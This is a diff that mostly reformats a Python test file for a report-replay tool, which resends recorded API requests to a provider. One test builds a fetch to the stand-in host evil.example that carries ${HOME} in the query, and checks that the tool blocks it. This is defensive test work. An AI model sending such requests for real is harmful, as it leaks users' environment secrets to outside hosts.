@@ -1,4 +1,6 @@
-"""A failure of a report sent again: to the same provider, to a mended one, to one that is gone, and to one that answers otherwise."""
+"""A failure of a report sent again: to the same provider, to a mended one, to one that is gone, and to one that answers
+otherwise.
+"""
 
 from __future__ import annotations
 
@@ -103,7 +105,10 @@ class Refusing:
         ({"request_body": "(1,234 bytes, not text, sha256 ab)"}, "was not kept whole"),
         ({"request_body": "x" * 100 + "\n… (9,999 bytes in all)"}, "was not kept whole"),
         ({"url": "call:register"}, "a call from Python"),
-        ({"request_headers": {"X": "${SOME_SECRET}"}}, "found no value for SOME_SECRET, expected them in the environment"),
+        (
+            {"request_headers": {"X": "${SOME_SECRET}"}},
+            "found no value for SOME_SECRET, expected them in the environment",
+        ),
     ],
 )
 def test_what_cannot_be_sent_as_it_was_is_not_sent(report: Report, changes: dict[str, Any], words: str) -> None:
@@ -118,7 +123,12 @@ def test_no_request_leaves_for_another_host(report: Report) -> None:
     stray = Step(role="probe", operation="fetch", method="GET", url="http://evil.example/?k=${HOME}", status=200)
     app = Refusing()
     with pytest.raises(RepeatError, match=r"goes to http://evil\.example, which is not the provider"):
-        repeat(finding.model_copy(update={"steps": [*finding.steps, stray]}), "http://127.0.0.1:9", {}, transport=AsgiTransport(app))
+        repeat(
+            finding.model_copy(update={"steps": [*finding.steps, stray]}),
+            "http://127.0.0.1:9",
+            {},
+            transport=AsgiTransport(app),
+        )
     assert app.asked == 0
 
 
@@ -128,7 +138,11 @@ def test_what_was_redacted_comes_from_the_environment(tmp_path: Path) -> None:
         operation="generate",
         method="POST",
         url="http://127.0.0.1:9/g?k=${KEY}",
-        request_headers={"Authorization": "Basic JHtVU0VSfToke1BBU1N9", "Content-Type": "application/json", "X": "a ${KEY}"},
+        request_headers={
+            "Authorization": "Basic JHtVU0VSfToke1BBU1N9",
+            "Content-Type": "application/json",
+            "X": "a ${KEY}",
+        },
         request_body='{"k":"${KEY}"}',
         status=200,
         response_body='{"id":"1"}',
@@ -137,7 +151,9 @@ def test_what_was_redacted_comes_from_the_environment(tmp_path: Path) -> None:
     from .apps import Recorder
 
     app = Recorder()
-    done = repeat(finding, "http://127.0.0.1:9", {"KEY": "k/1", "USER": "us", "PASS": "pw"}, transport=AsgiTransport(app))
+    done = repeat(
+        finding, "http://127.0.0.1:9", {"KEY": "k/1", "USER": "us", "PASS": "pw"}, transport=AsgiTransport(app)
+    )
     assert done.outcome == "shows again"
     (asked,) = app.asked
     assert (asked["query"], asked["headers"]["x"], asked["body"]) == ("k=k%2F1", "a k/1", b'{"k":"k/1"}')
@@ -149,10 +165,13 @@ def test_an_unknown_rule_is_told_with_those_there_are(report: Report) -> None:
         finding_of(report, "cn-dsp-2023/99")
 
 
-# --- the command -------------------------------------------------------------------------------------------------------------------
+# --- the command
+# -------------------------------------------------------------------------------------------------------------------
 
 
-def test_the_command_says_it_in_words_and_by_its_exit_code(report: Report, tmp_path: Path, broken: str, lawful: str) -> None:
+def test_the_command_says_it_in_words_and_by_its_exit_code(
+    report: Report, tmp_path: Path, broken: str, lawful: str
+) -> None:
     path = tmp_path / "report.json"
     report.write(path)
 
@@ -177,6 +196,8 @@ def test_the_check_judges_anew_with_a_binding(report: Report, tmp_path: Path, br
     report.write(path)
     binding.write_text(sample_binding().read_text(encoding="utf-8"), encoding="utf-8")
     for url, code, word in ((broken, 1, "fail"), (lawful, 0, "pass")):
-        told = CliRunner().invoke(command, ["replay", str(path), "--rule", LABEL, "--binding", str(binding), "--base-url", url])
+        told = CliRunner().invoke(
+            command, ["replay", str(path), "--rule", LABEL, "--binding", str(binding), "--base-url", url]
+        )
         assert told.exit_code == code, told.output
         assert told.stdout.startswith(f"{word}: {LABEL}")
